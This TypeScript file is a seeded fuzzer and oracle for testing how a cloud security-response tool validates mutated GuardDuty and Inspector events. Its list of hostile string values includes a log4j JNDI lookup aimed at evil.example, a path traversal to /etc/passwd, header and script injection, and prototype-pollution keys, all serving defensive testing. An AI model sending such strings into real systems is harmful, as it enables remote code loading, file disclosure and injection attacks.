/**
 * A seeded mutator and oracle for hostile-input tests. From valid GuardDuty runtime and Inspector
 * fixtures it makes mutated events (paths deleted, nulls, wrong types, 100 KB strings, 10k-element
 * arrays, hostile unicode, depth-1000 nesting, ARNs of other accounts, partitions and regions,
 * timestamps in every form and nonsense, hostile object keys), says independently which of them must
 * never be acted on, and checks what validation and the decision functions make of each.
 * Shared by `test/unit/fuzz.test.ts` (small fixed count) and `bench/fuzz.ts` (large count).
 */
import { createHash } from 'node:crypto';
import { DEFAULT_CONFIG } from '../../cdk/config';
import { normalizeRuntimeFinding, type RuntimeFinding } from '../../lambdas/core/finding';
import { decideRuntimeResponse, STOP_REASON_MAX, type TaskEnrichment } from '../../lambdas/core/policy';
import {
  decideImageResponse,
  type ImageEnrichment,
  normalizeVulnerabilityFinding,
  type VulnerabilityFinding,
} from '../../lambdas/core/vulnerability';
import { seededRandom } from '../../local/sandbox/random';
import { ACCOUNT, inspectorEvent, REGION, runtimeEvent } from './events';

export type FuzzSource = 'runtime' | 'inspector';

export const MUTATION_KINDS = [
  'delete',
  'null',
  'wrong-type',
  'huge-string',
  'huge-array',
  'unicode',
  'deep-nesting',
  'foreign-arn',
  'timestamp',
  'number-edge',
  'hostile-key',
] as const;
export type MutationKind = (typeof MUTATION_KINDS)[number];

export interface Mutation {
  readonly kind: MutationKind;
  /** Where, as `detail.resource.ecsClusterDetails.taskDetails.arn` (array indexes as `[0]`). */
  readonly path: string;
}

export interface FuzzCase {
  readonly index: number;
  readonly source: FuzzSource;
  readonly event: Record<string, unknown>;
  readonly mutations: readonly Mutation[];
}

export const OTHER_ACCOUNT = '444455556666';
export const FUZZ_NOW = Date.UTC(2026, 10, 28, 10, 30);
export const HUGE_STRING_LENGTH = 100_000;
export const HUGE_ARRAY_LENGTH = 10_000;
export const NESTING_DEPTH = 1000;

type Key = string | number;
type Path = readonly Key[];
type Random = () => number;

function isObject(value: unknown): value is Record<string, unknown> {
  return typeof value === 'object' && value !== null && !Array.isArray(value);
}

function pick<T>(random: Random, items: readonly T[]): T {
  const item = items[Math.floor(random() * items.length)];
  if (item === undefined) throw new Error('pick from an empty list');
  return item;
}

const hex = (text: string, length: number): string =>
  createHash('sha256').update(text).digest('hex').slice(0, length);

export function pathText(path: Path): string {
  return path.map((k, i) => (typeof k === 'number' ? `[${k}]` : i === 0 ? k : `.${k}`)).join('');
}

// ---------------------------------------------------------------------------------------------------------
// Values.

const FOREIGN_PARTITIONS = ['aws-cn', 'aws-us-gov', 'aws-iso', 'aws-iso-b', 'aws-eusc'] as const;
const FOREIGN_REGIONS = [
  'eu-west-1',
  'cn-north-1',
  'us-gov-west-1',
  'us-isob-east-1',
  'ap-southeast-7',
] as const;

const UNICODE = [
  '\u202Eevil\u202C', // right-to-left override
  'a\u200Bb\u200Cc\u200Dd\uFEFF', // zero-width characters and a BOM
  'e\u0301\u0301\u0301\u0301', // stacked combining marks
  '\uD800', // lone high surrogate
  '\uDFFF\uD800', // reversed surrogate pair
  '😀👩‍👩‍👧‍👦🏳️‍🌈',
  'аws.guardduty', // Cyrillic а
  '１１１１２２２２３３３３', // full-width digits
  '١١١١٢٢٢٢٣٣٣٣', // Arabic-Indic digits
  'nul\u0000byte',
  'line\nSubject: injected\r\nBcc: x@example.com',
  '<!channel> <@U123> <https://evil.example|click>',
  '<script>alert(1)</script>&amp;',
  '\u0024{jndi:ldap://evil.example/a}', // a log4j lookup
  '../../../../etc/passwd',
  '%00%2e%2e%2f',
  '\u0007\u001b[31mred\u001b[0m',
  '𝕬𝖗𝖓',
  ' ',
] as const;

const TIMESTAMPS: readonly unknown[] = [
  '2026-11-28T10:01:35Z',
  '2026-11-28T10:01:35.212+02:00',
  '2026-11-28',
  '2026-11-28 10:01:35',
  'Sat Nov 28 10:19:38.411 UTC 2026',
  'Nov 28, 2026, 10:19:38 AM',
  'Sat, 28 Nov 2026 10:01:35 GMT',
  1764322681,
  1764322681.5,
  1764322681500,
  '1764322681',
  '1764322681500',
  '1.7643226815e9',
  0,
  -1,
  1e20,
  Number.MAX_SAFE_INTEGER,
  '',
  'yesterday',
  'NaN',
  '2026-02-30T25:61:61Z',
  '9999-12-31T23:59:59Z',
  '1970-01-01T00:00:00Z',
  '0000-00-00T00:00:00Z',
  'Sun Foo 99 99:99:99 UTC 2026',
  'T'.repeat(63),
  '2026-11-28T10:01:35Z'.repeat(4),
  {},
  [],
  true,
];

const NUMBER_EDGES: readonly unknown[] = [
  -1,
  0,
  -0,
  0.5,
  6.99999,
  7,
  8.9,
  9,
  10,
  10.0001,
  11,
  1e308,
  -1e308,
  Number.MAX_SAFE_INTEGER + 2,
  Number.NaN,
  Number.POSITIVE_INFINITY,
  Number.NEGATIVE_INFINITY,
  '8',
  ' 8 ',
  '8.5e0',
  '0x8',
  '8abc',
  '',
  '١',
];

function wrongTypeValues(random: Random): unknown[] {
  return [
    0,
    -1,
    1.5,
    1e21,
    Number.NaN,
    true,
    false,
    '',
    'x',
    '8',
    [],
    [null],
    [1, 'two', { three: 3 }],
    {},
    { key: 'value' },
    { length: 5 },
    pick(random, UNICODE),
  ];
}

function hugeString(random: Random): string {
  const unit = pick(random, ['A', '😀', 'é', '\u0000', 'arn:aws:ecs:', '<', '\u202E']);
  return unit.repeat(Math.ceil(HUGE_STRING_LENGTH / unit.length)).slice(0, HUGE_STRING_LENGTH);
}

function hugeArray(random: Random, current: unknown): unknown[] {
  const element =
    Array.isArray(current) && current.length > 0 ? current[0] : pick(random, ['x', null, 0, {}]);
  return new Array<unknown>(HUGE_ARRAY_LENGTH).fill(element);
}

function deepNesting(random: Random): unknown {
  const asArray = random() < 0.3;
  let value: unknown = pick(random, ['bottom', null, 1, {}]);
  for (let i = 0; i < NESTING_DEPTH; i++) value = asArray ? [value] : { a: value };
  return value;
}

/** The same ARN, account id or image URI pointing at another account, partition or region. */
function foreignValue(random: Random, text: string): string {
  const choice = Math.floor(random() * 3);
  if (/^\d{12}$/.test(text)) return pick(random, [OTHER_ACCOUNT, '000000000000', '12345678901', `${text}0`]);
  if (text.startsWith('arn:')) {
    const parts = text.split(':');
    if (choice === 0 && parts.length > 4) parts[4] = OTHER_ACCOUNT;
    else if (choice === 1 && parts.length > 1) parts[1] = pick(random, FOREIGN_PARTITIONS);
    else if (parts.length > 3) parts[3] = pick(random, FOREIGN_REGIONS);
    return parts.join(':');
  }
  if (text.includes('.dkr.ecr.')) {
    return choice === 0
      ? text.replace(ACCOUNT, OTHER_ACCOUNT)
      : text.replace(`.${REGION}.`, `.${pick(random, FOREIGN_REGIONS)}.`);
  }
  return text.replace(ACCOUNT, OTHER_ACCOUNT).replace(REGION, pick(random, FOREIGN_REGIONS));
}

function unicodeValue(random: Random, current: unknown): string {
  const hostile = pick(random, UNICODE);
  if (typeof current !== 'string' || random() < 0.5) return hostile;
  const at = Math.floor(random() * (current.length + 1));
  return `${current.slice(0, at)}${hostile}${current.slice(at)}`;
}

// ---------------------------------------------------------------------------------------------------------
// Paths.

// Paths are collected from the first elements of arrays and the first levels only: an earlier mutation may
// have left a 10k-element array or a depth-1000 object behind.
const PATH_DEPTH = 12;
const PATH_ELEMENTS = 3;

function allPaths(value: unknown, prefix: Key[] = [], out: Key[][] = []): Key[][] {
  if (prefix.length >= PATH_DEPTH) return out;
  if (Array.isArray(value)) {
    value.slice(0, PATH_ELEMENTS).forEach((v, i) => {
      out.push([...prefix, i]);
      allPaths(v, [...prefix, i], out);
    });
  } else if (isObject(value)) {
    for (const [k, v] of Object.entries(value)) {
      out.push([...prefix, k]);
      allPaths(v, [...prefix, k], out);
    }
  }
  return out;
}

function valueAt(root: unknown, path: Path): unknown {
  let node = root;
  for (const key of path) {
    if (Array.isArray(node) && typeof key === 'number') node = node[key];
    else if (isObject(node) && typeof key === 'string') node = node[key];
    else return undefined;
  }
  return node;
}

function setAt(root: unknown, path: Path, value: unknown): void {
  const parent = valueAt(root, path.slice(0, -1));
  const key = path[path.length - 1];
  if (Array.isArray(parent) && typeof key === 'number') parent[key] = value;
  else if (isObject(parent) && typeof key === 'string') {
    Object.defineProperty(parent, key, { value, enumerable: true, writable: true, configurable: true });
  }
}

function deleteAt(root: unknown, path: Path): void {
  const parent = valueAt(root, path.slice(0, -1));
  const key = path[path.length - 1];
  if (Array.isArray(parent) && typeof key === 'number') parent.splice(key, 1);
  else if (isObject(parent) && typeof key === 'string') delete parent[key];
}

/** Fields the decision depends on: mutated more often than the rest. */
const CRITICAL: Record<FuzzSource, readonly string[]> = {
  runtime: [
    'source',
    'detail-type',
    'account',
    'region',
    'detail',
    'detail.id',
    'detail.type',
    'detail.severity',
    'detail.accountId',
    'detail.region',
    'detail.partition',
    'detail.service',
    'detail.service.count',
    'detail.service.additionalInfo',
    'detail.resource',
    'detail.resource.resourceType',
    'detail.resource.ecsClusterDetails',
    'detail.resource.ecsClusterDetails.name',
    'detail.resource.ecsClusterDetails.arn',
    'detail.resource.ecsClusterDetails.tags',
    'detail.resource.ecsClusterDetails.taskDetails',
    'detail.resource.ecsClusterDetails.taskDetails.arn',
    'detail.resource.ecsClusterDetails.taskDetails.group',
    'detail.resource.ecsClusterDetails.taskDetails.tags',
    'detail.resource.ecsClusterDetails.taskDetails.containers',
    'detail.resource.ecsClusterDetails.taskDetails.containers[0].image',
  ],
  inspector: [
    'source',
    'detail-type',
    'account',
    'detail',
    'detail.findingArn',
    'detail.awsAccountId',
    'detail.severity',
    'detail.status',
    'detail.exploitAvailable',
    'detail.epss',
    'detail.epss.score',
    'detail.resources',
    'detail.resources[0]',
    'detail.resources[0].type',
    'detail.resources[0].id',
    'detail.resources[0].details.awsEcrContainerImage',
    'detail.resources[0].details.awsEcrContainerImage.repositoryName',
    'detail.resources[0].details.awsEcrContainerImage.registry',
    'detail.resources[0].details.awsEcrContainerImage.imageHash',
  ],
};

const TIMESTAMP_KEY = /(At|Seen|time)$/;

function candidates(kind: MutationKind, event: unknown, source: FuzzSource, random: Random): Key[][] {
  const paths = allPaths(event);
  const leaf = (test: (value: unknown, key: Key | undefined) => boolean) =>
    paths.filter((p) => test(valueAt(event, p), p[p.length - 1]));
  switch (kind) {
    case 'timestamp':
      return leaf((_v, k) => typeof k === 'string' && TIMESTAMP_KEY.test(k));
    case 'foreign-arn':
      return leaf(
        (v) =>
          typeof v === 'string' && (v.startsWith('arn:') || /^\d{12}$/.test(v) || v.includes('.dkr.ecr.')),
      );
    case 'number-edge':
      return leaf((v, k) => typeof v === 'number' || k === 'severity' || k === 'count' || k === 'score');
    case 'unicode':
      return leaf((v) => typeof v === 'string');
    case 'hostile-key':
      return [[], ...paths.filter((p) => isObject(valueAt(event, p)))];
    default: {
      if (random() < 0.5) {
        const critical = paths.filter((p) => CRITICAL[source].includes(pathText(p)));
        if (critical.length > 0) return critical;
      }
      return paths;
    }
  }
}

function applyMutation(
  kind: MutationKind,
  event: Record<string, unknown>,
  path: Key[],
  random: Random,
): void {
  const current = valueAt(event, path);
  switch (kind) {
    case 'delete':
      deleteAt(event, path);
      return;
    case 'null':
      setAt(event, path, null);
      return;
    case 'wrong-type': {
      const type = Array.isArray(current) ? 'array' : current === null ? 'null' : typeof current;
      const others = wrongTypeValues(random).filter(
        (v) => (Array.isArray(v) ? 'array' : v === null ? 'null' : typeof v) !== type,
      );
      setAt(event, path, pick(random, others));
      return;
    }
    case 'huge-string':
      setAt(
        event,
        path,
        typeof current === 'string' && random() < 0.5 ? current + hugeString(random) : hugeString(random),
      );
      return;
    case 'huge-array':
      setAt(event, path, hugeArray(random, current));
      return;
    case 'unicode':
      setAt(event, path, unicodeValue(random, current));
      return;
    case 'deep-nesting':
      setAt(event, path, deepNesting(random));
      return;
    case 'foreign-arn':
      setAt(event, path, foreignValue(random, String(current)));
      return;
    case 'timestamp':
      setAt(event, path, pick(random, TIMESTAMPS));
      return;
    case 'number-edge':
      setAt(event, path, pick(random, NUMBER_EDGES));
      return;
    case 'hostile-key': {
      const key = pick(random, [
        '__proto__',
        'constructor',
        'prototype',
        'toString',
        'valueOf',
        'hasOwnProperty',
      ]);
      const value = pick<unknown>(random, [
        { polluted: true },
        'x',
        null,
        1,
        [],
        { toString: 'x', valueOf: 'y' },
      ]);
      setAt(event, [...path, key], value);
      return;
    }
  }
}

function baseEvent(index: number, source: FuzzSource, random: Random): Record<string, unknown> {
  if (source === 'inspector') {
    return inspectorEvent({
      findingId: hex(`fuzz-inspector-${index}`, 32),
      digest: `sha256:${hex(`fuzz-digest-${index}`, 64)}`,
      repository: pick(random, ['payments-api', 'team/payments-api', 'a']),
      severity: pick(random, ['CRITICAL', 'CRITICAL', 'HIGH', 'MEDIUM']),
      status: pick(random, ['ACTIVE', 'ACTIVE', 'ACTIVE', 'CLOSED', 'SUPPRESSED']),
      exploitAvailable: pick(random, ['YES', 'NO']),
      epss: pick(random, [0.01, 0.5, 0.97]),
    });
  }
  return runtimeEvent({
    id: `fuzz-${index}`,
    taskId: hex(`fuzz-task-${index}`, 32),
    // Most would stop or isolate the task when left intact: the oracle is then tested where it matters.
    severity: pick(random, [8, 8, 9.5, 7, 5, 2]),
    count: pick(random, [1, 1, 2, 40]),
    service: pick(random, ['payments-api', 'payments-api', null]),
    launchType: pick(random, ['FARGATE', 'FARGATE', 'EC2']),
    withoutTask: random() < 0.05,
    sample: random() < 0.05,
  });
}

/** `count` mutated events from a fixed seed: the same seed gives the same cases, in the same order. */
export function* fuzzCases(count: number, seed: number): Generator<FuzzCase> {
  const random = seededRandom(seed);
  for (let index = 0; index < count; index++) {
    const source: FuzzSource = random() < 0.6 ? 'runtime' : 'inspector';
    const event = baseEvent(index, source, random);
    const mutations: Mutation[] = [];
    // One case in twenty is left intact: a control that must be accepted.
    const wanted = index % 20 === 0 ? 0 : 1 + Math.floor(random() * 3);
    for (let n = 0; n < wanted; n++) {
      const kind = pick(random, MUTATION_KINDS);
      const paths = candidates(kind, event, source, random);
      if (paths.length === 0) continue;
      const path = pick(random, paths);
      applyMutation(kind, event, path, random);
      mutations.push({ kind, path: pathText(path) || '(event)' });
    }
    yield { index, source, event, mutations };
  }
}

// ---------------------------------------------------------------------------------------------------------
// The oracle: an independent statement of what must never be acted on.

export interface Verdict {
  /** Reasons the event is not a finding shield-right may act on. */
  readonly invalid: string[];
  /** Resources named inconsistently (ARNs of another partition, region or cluster than the finding's). */
  readonly inconsistent: string[];
}

const ACCOUNT_ID = /^\d{12}$/;
const REGION_NAME = /^[a-z]{2}(-[a-z]+)+-\d$/;
const PARTITION_NAME = /^aws(-cn|-us-gov|-iso[a-z-]*)?$/;
const SAFE_ID = /^[A-Za-z0-9_-]{1,128}$/;
const MAX_TEXT = 4096;
const MAX_LIST = 100;
const ECS_ARN = /^arn:([^:]+):ecs:([^:]+):([^:]+):(task|cluster)\/(.+)$/;
const INSPECTOR_FINDING_ARN = /^arn:([^:]+):inspector2:([^:]+):([^:]+):finding\/\S+$/;
// The image id is a fallback for the image details: one that is not an ECR image ARN is ignored.
const ECR_IMAGE_ID = /^arn:([a-z-]+):ecr:([a-z0-9-]+):(\d{12}):repository\/(.+)\/(sha256:[A-Za-z0-9]+)$/;
const REPOSITORY_NAME = /^(?:[a-z0-9]+(?:[._-][a-z0-9]+)*\/)*[a-z0-9]+(?:[._-][a-z0-9]+)*$/;
const IMAGE_DIGEST = /^sha256:[A-Za-z0-9]{32,64}$/;

const absent = (value: unknown): boolean => value === undefined || value === null;
const text = (value: unknown): value is string =>
  typeof value === 'string' && value.length > 0 && value.length <= MAX_TEXT;

/** A finite number in range; numeric strings are accepted as GuardDuty's JSON sometimes carries them. */
function numberIn(value: unknown, min: number, max: number): boolean {
  const n = typeof value === 'string' && value.trim() !== '' ? Number(value) : value;
  return typeof n === 'number' && Number.isFinite(n) && n >= min && n <= max;
}

function listOfObjects(value: unknown): boolean {
  return Array.isArray(value) && value.length <= MAX_LIST && value.every(isObject);
}

function isSampleFinding(service: Record<string, unknown>): boolean {
  const info = service.additionalInfo;
  if (!isObject(info)) return false;
  return (
    info.sample === true ||
    info.sample === 'true' ||
    (typeof info.value === 'string' && /"sample"\s*:\s*true/.test(info.value))
  );
}

function runtimeVerdict(event: unknown): Verdict {
  const invalid: string[] = [];
  const inconsistent: string[] = [];
  const bad = (why: string): Verdict => ({ invalid: [...invalid, why], inconsistent });
  if (!isObject(event)) return bad('event is not an object');
  if (event.source !== 'aws.guardduty') invalid.push('source');
  if (event['detail-type'] !== 'GuardDuty Finding') invalid.push('detail-type');
  const account = event.account;
  if (typeof account !== 'string' || !ACCOUNT_ID.test(account)) invalid.push('account');
  const detail = event.detail;
  if (!isObject(detail)) return bad('detail');
  if (typeof detail.id !== 'string' || !SAFE_ID.test(detail.id)) invalid.push('detail.id');
  if (!text(detail.type)) invalid.push('detail.type');
  if (!numberIn(detail.severity, 0, 10)) invalid.push('detail.severity');
  if (!absent(detail.accountId) && detail.accountId !== account) invalid.push('detail.accountId');
  const region = absent(detail.region) ? event.region : detail.region;
  if (typeof region !== 'string' || !REGION_NAME.test(region)) invalid.push('detail.region');
  const partition = absent(detail.partition) ? 'aws' : detail.partition;
  if (typeof partition !== 'string' || !PARTITION_NAME.test(partition)) invalid.push('detail.partition');
  const service = detail.service;
  if (!isObject(service)) return bad('detail.service');
  if (!numberIn(absent(service.count) ? 1 : service.count, 1, Number.MAX_SAFE_INTEGER)) {
    invalid.push('detail.service.count');
  }
  if (!absent(service.runtimeDetails) && !isObject(service.runtimeDetails)) {
    invalid.push('detail.service.runtimeDetails');
  }
  const resource = detail.resource;
  if (!isObject(resource)) return bad('detail.resource');
  if (resource.resourceType !== 'ECSCluster') invalid.push('detail.resource.resourceType');
  const cluster = resource.ecsClusterDetails;
  if (!isObject(cluster)) return bad('detail.resource.ecsClusterDetails');
  const clusterName = cluster.name;
  if (typeof clusterName !== 'string' || !/^[A-Za-z0-9_-]{1,255}$/.test(clusterName)) {
    invalid.push('detail.resource.ecsClusterDetails.name');
  }
  if (!absent(cluster.tags) && !listOfObjects(cluster.tags))
    invalid.push('detail.resource.ecsClusterDetails.tags');
  // Sample findings name placeholder resources and are never acted on.
  const sample = isSampleFinding(service);
  const checkArn = (value: unknown, kind: 'task' | 'cluster', field: string): void => {
    if (sample) return;
    const parts = typeof value === 'string' && value.length <= MAX_TEXT ? ECS_ARN.exec(value) : null;
    const [, arnPartition, arnRegion, arnAccount, arnKind, rest] = parts ?? [];
    const name = kind === 'cluster' ? /^[A-Za-z0-9_-]+$/ : /^[A-Za-z0-9_-]+\/[A-Za-z0-9]+$/;
    if (
      !parts ||
      arnKind !== kind ||
      !rest ||
      !name.test(rest) ||
      !arnAccount ||
      !ACCOUNT_ID.test(arnAccount)
    ) {
      invalid.push(field);
      return;
    }
    if (arnAccount !== account) invalid.push(`${field} is in another account`);
    if (arnPartition !== partition) inconsistent.push(`${field} is in partition ${arnPartition}`);
    if (arnRegion !== region) inconsistent.push(`${field} is in region ${arnRegion}`);
    if (rest.split('/')[0] !== clusterName) inconsistent.push(`${field} names another cluster`);
  };
  if (!absent(cluster.arn)) checkArn(cluster.arn, 'cluster', 'detail.resource.ecsClusterDetails.arn');
  const task = cluster.taskDetails;
  if (absent(task)) return { invalid, inconsistent };
  const base = 'detail.resource.ecsClusterDetails.taskDetails';
  if (!isObject(task)) return bad(base);
  if (typeof task.arn !== 'string') invalid.push(`${base}.arn`);
  else checkArn(task.arn, 'task', `${base}.arn`);
  for (const field of ['group', 'launchType', 'definitionArn'] as const) {
    if (!absent(task[field]) && !text(task[field])) invalid.push(`${base}.${field}`);
  }
  if (!absent(task.tags) && !listOfObjects(task.tags)) invalid.push(`${base}.tags`);
  const containers = absent(task.containers) ? [] : task.containers;
  if (!listOfObjects(containers) || !(containers as Record<string, unknown>[]).every((c) => text(c.image))) {
    invalid.push(`${base}.containers`);
  }
  return { invalid, inconsistent };
}

function inspectorVerdict(event: unknown): Verdict {
  const invalid: string[] = [];
  const inconsistent: string[] = [];
  const bad = (why: string): Verdict => ({ invalid: [...invalid, why], inconsistent });
  if (!isObject(event)) return bad('event is not an object');
  if (event.source !== 'aws.inspector2') invalid.push('source');
  if (event['detail-type'] !== 'Inspector2 Finding') invalid.push('detail-type');
  const account = event.account;
  if (typeof account !== 'string' || !ACCOUNT_ID.test(account)) invalid.push('account');
  const detail = event.detail;
  if (!isObject(detail)) return bad('detail');
  const arn =
    typeof detail.findingArn === 'string' && detail.findingArn.length <= MAX_TEXT
      ? INSPECTOR_FINDING_ARN.exec(detail.findingArn)
      : null;
  const [, partition, region, arnAccount] = arn ?? [];
  if (!arn || !partition || !PARTITION_NAME.test(partition) || !region || !REGION_NAME.test(region)) {
    invalid.push('detail.findingArn');
  }
  const findingAccount = absent(detail.awsAccountId) ? account : detail.awsAccountId;
  if (findingAccount !== account) invalid.push('detail.awsAccountId');
  if (arnAccount !== undefined && arnAccount !== findingAccount) {
    inconsistent.push('detail.findingArn is in another account');
  }
  const severities = ['CRITICAL', 'HIGH', 'MEDIUM', 'LOW', 'INFORMATIONAL', 'UNTRIAGED'];
  if (typeof detail.severity !== 'string' || !severities.includes(detail.severity)) {
    invalid.push('detail.severity');
  }
  if (typeof detail.status !== 'string' || !['ACTIVE', 'SUPPRESSED', 'CLOSED'].includes(detail.status)) {
    invalid.push('detail.status');
  }
  if (!absent(detail.epss)) {
    if (!isObject(detail.epss)) invalid.push('detail.epss');
    else if (!absent(detail.epss.score) && !numberIn(detail.epss.score, 0, 1))
      invalid.push('detail.epss.score');
  }
  const resources = detail.resources;
  if (!Array.isArray(resources)) return bad('detail.resources');
  const resource = resources.find((r) => isObject(r) && r.type === 'AWS_ECR_CONTAINER_IMAGE');
  if (!isObject(resource)) return bad('detail.resources: no ECR image');
  const details = resource.details;
  if (!isObject(details) || !isObject(details.awsEcrContainerImage)) return bad('detail.resources[].details');
  const image = details.awsEcrContainerImage;
  const id = typeof resource.id === 'string' ? ECR_IMAGE_ID.exec(resource.id) : null;
  const [, idPartition, idRegion, idAccount, idRepository, idDigest] = id ?? [];
  const repository = absent(image.repositoryName) ? idRepository : image.repositoryName;
  const registry = absent(image.registry) ? idAccount : image.registry;
  const digest = absent(image.imageHash) ? idDigest : image.imageHash;
  if (!text(repository) || !REPOSITORY_NAME.test(repository)) invalid.push('repositoryName');
  if (registry !== account) invalid.push('registry');
  if (!text(digest) || !IMAGE_DIGEST.test(digest)) invalid.push('imageHash');
  if (idAccount !== undefined && idAccount !== account) invalid.push('resources[].id is in another account');
  if (id) {
    if (idPartition !== partition) inconsistent.push(`resources[].id is in partition ${idPartition}`);
    if (idRegion !== region) inconsistent.push(`resources[].id is in region ${idRegion}`);
    if (idRepository !== repository || idDigest !== digest) {
      inconsistent.push('resources[].id names another image than its details');
    }
  }
  return { invalid, inconsistent };
}

export function verdict(source: FuzzSource, event: unknown): Verdict {
  return source === 'runtime' ? runtimeVerdict(event) : inspectorVerdict(event);
}

// ---------------------------------------------------------------------------------------------------------
// Running a case.

export const REJECTION_NAMES = ['InvalidFindingError', 'CrossAccountFindingError'] as const;
/** A field path at the start of a rejection message: `event`, `source`, `detail-type`, `account`, `detail.…`. */
export const FIELD_PATH =
  /^(?:event|source|detail-type|account|detail(?:\.[A-Za-z][A-Za-z0-9]*|\[\d+\])*)(?=:? )/;
const MAX_MESSAGE = 5000;

export interface CaseOutcome {
  readonly index: number;
  readonly source: FuzzSource;
  readonly mutations: readonly Mutation[];
  readonly verdict: Verdict;
  readonly accepted: boolean;
  /** The rejection's error name (`InvalidFindingError`…), or the name of whatever else was thrown. */
  readonly errorName?: string;
  readonly message?: string;
  /** `act` when the decision would claim and contain. */
  readonly path?: 'act' | 'notify' | 'resolve';
  /** Breaches of the contract: a crash, an unnamed error, an action on an invalid finding… */
  readonly problems: string[];
  /** An accepted finding whose resources are named inconsistently was planned for action. */
  readonly actedOnInconsistent: boolean;
}

function runtimeEnrichment(finding: RuntimeFinding): TaskEnrichment {
  return {
    found: true,
    lastStatus: 'RUNNING',
    desiredStatus: 'RUNNING',
    launchType: finding.task?.launchType ?? 'FARGATE',
    networkMode: 'awsvpc',
    eniId: 'eni-0fuzz',
    subnetId: 'subnet-0fuzz',
    privateIp: '10.0.0.10',
    containers: finding.containers.map((c, i) => ({
      name: c.name,
      image: c.image.uri,
      digest: `sha256:${hex(`container-${i}`, 64)}`,
    })),
    taskTags: {},
    ...(finding.task?.serviceName
      ? { service: { name: finding.task.serviceName, runningCount: 3, desiredCount: 3, tags: {} } }
      : {}),
    clusterTags: {},
  };
}

function imageEnrichment(finding: VulnerabilityFinding): ImageEnrichment {
  return {
    found: true,
    imageStatus: 'ACTIVE',
    tags: finding.image.tags,
    tagMutability: 'MUTABLE',
    repositoryTags: {},
    runningTasks: [],
    scannedTasks: 0,
    truncated: false,
  };
}

function roundTrips(value: unknown): boolean {
  return JSON.stringify(JSON.parse(JSON.stringify(value))) === JSON.stringify(value);
}

function rejectionProblems(err: unknown): { name: string; message: string; problems: string[] } {
  if (!(err instanceof Error))
    return { name: typeof err, message: String(err), problems: [`crash: threw ${typeof err}`] };
  const problems: string[] = [];
  if (!(REJECTION_NAMES as readonly string[]).includes(err.name)) {
    problems.push(`crash: ${err.name}: ${err.message.slice(0, 200)}`);
  } else if (err.name === 'InvalidFindingError') {
    const field = (err as Error & { field?: unknown }).field;
    if (typeof field !== 'string' || !err.message.startsWith(`${field}: `) || !FIELD_PATH.test(err.message)) {
      problems.push(`rejection does not start with a field path: ${err.message.slice(0, 200)}`);
    }
  }
  if (err.message.length > MAX_MESSAGE)
    problems.push(`rejection message of ${err.message.length} characters`);
  return { name: err.name, message: err.message, problems };
}

/** Validates and decides one case the way ValidateFinding and EnrichAndDecide do, and checks the contract. */
export function runCase(c: FuzzCase): CaseOutcome {
  const v = verdict(c.source, c.event);
  const base = { index: c.index, source: c.source, mutations: c.mutations, verdict: v };
  let finding: RuntimeFinding | VulnerabilityFinding;
  try {
    finding =
      c.source === 'runtime'
        ? normalizeRuntimeFinding(c.event, { now: () => FUZZ_NOW })
        : normalizeVulnerabilityFinding(c.event, { now: () => FUZZ_NOW });
  } catch (err) {
    const { name, message, problems } = rejectionProblems(err);
    if (c.mutations.length === 0) problems.push(`an intact fixture was rejected: ${message.slice(0, 200)}`);
    return { ...base, accepted: false, errorName: name, message, problems, actedOnInconsistent: false };
  }
  const problems: string[] = [];
  if (!roundTrips(finding)) problems.push('normalized finding is not plain JSON');
  if (!/^[A-Za-z0-9_-]{1,128}$/.test(finding.incidentId))
    problems.push(`unsafe incident id ${finding.incidentId}`);
  let path: CaseOutcome['path'];
  try {
    const plan =
      finding.kind === 'runtime'
        ? decideRuntimeResponse(finding, runtimeEnrichment(finding), DEFAULT_CONFIG, FUZZ_NOW)
        : decideImageResponse(finding, imageEnrichment(finding), DEFAULT_CONFIG, FUZZ_NOW);
    path = plan.path;
    if (!roundTrips(plan)) problems.push('plan is not plain JSON');
    if ('stopReason' in plan && plan.stopReason.length > STOP_REASON_MAX)
      problems.push('stop reason too long');
  } catch (err) {
    problems.push(`crash in decision: ${err instanceof Error ? `${err.name}: ${err.message}` : String(err)}`);
  }
  if (path === 'act' && v.invalid.length > 0) {
    problems.push(`acted on an invalid finding (${v.invalid.join(', ')})`);
  }
  return {
    ...base,
    accepted: true,
    ...(path ? { path } : {}),
    problems,
    actedOnInconsistent: path === 'act' && v.inconsistent.length > 0,
  };
}

export interface FuzzSummary {
  readonly cases: number;
  readonly accepted: number;
  readonly acted: number;
  readonly rejectedBy: Record<string, number>;
  readonly mutations: Record<string, number>;
  readonly problems: CaseOutcome[];
  readonly actedOnInconsistent: CaseOutcome[];
  /** CrossAccountFindingError messages that do not start with the field they are about. */
  readonly crossAccountWithoutField: CaseOutcome[];
}

export function summarize(outcomes: readonly CaseOutcome[]): FuzzSummary {
  const rejectedBy: Record<string, number> = {};
  const mutations: Record<string, number> = {};
  for (const o of outcomes) {
    if (!o.accepted && o.errorName) rejectedBy[o.errorName] = (rejectedBy[o.errorName] ?? 0) + 1;
    for (const m of o.mutations) mutations[m.kind] = (mutations[m.kind] ?? 0) + 1;
  }
  return {
    cases: outcomes.length,
    accepted: outcomes.filter((o) => o.accepted).length,
    acted: outcomes.filter((o) => o.path === 'act').length,
    rejectedBy,
    mutations,
    problems: outcomes.filter((o) => o.problems.length > 0),
    actedOnInconsistent: outcomes.filter((o) => o.actedOnInconsistent),
    crossAccountWithoutField: outcomes.filter(
      (o) => o.errorName === 'CrossAccountFindingError' && !FIELD_PATH.test(o.message ?? ''),
    ),
  };
}
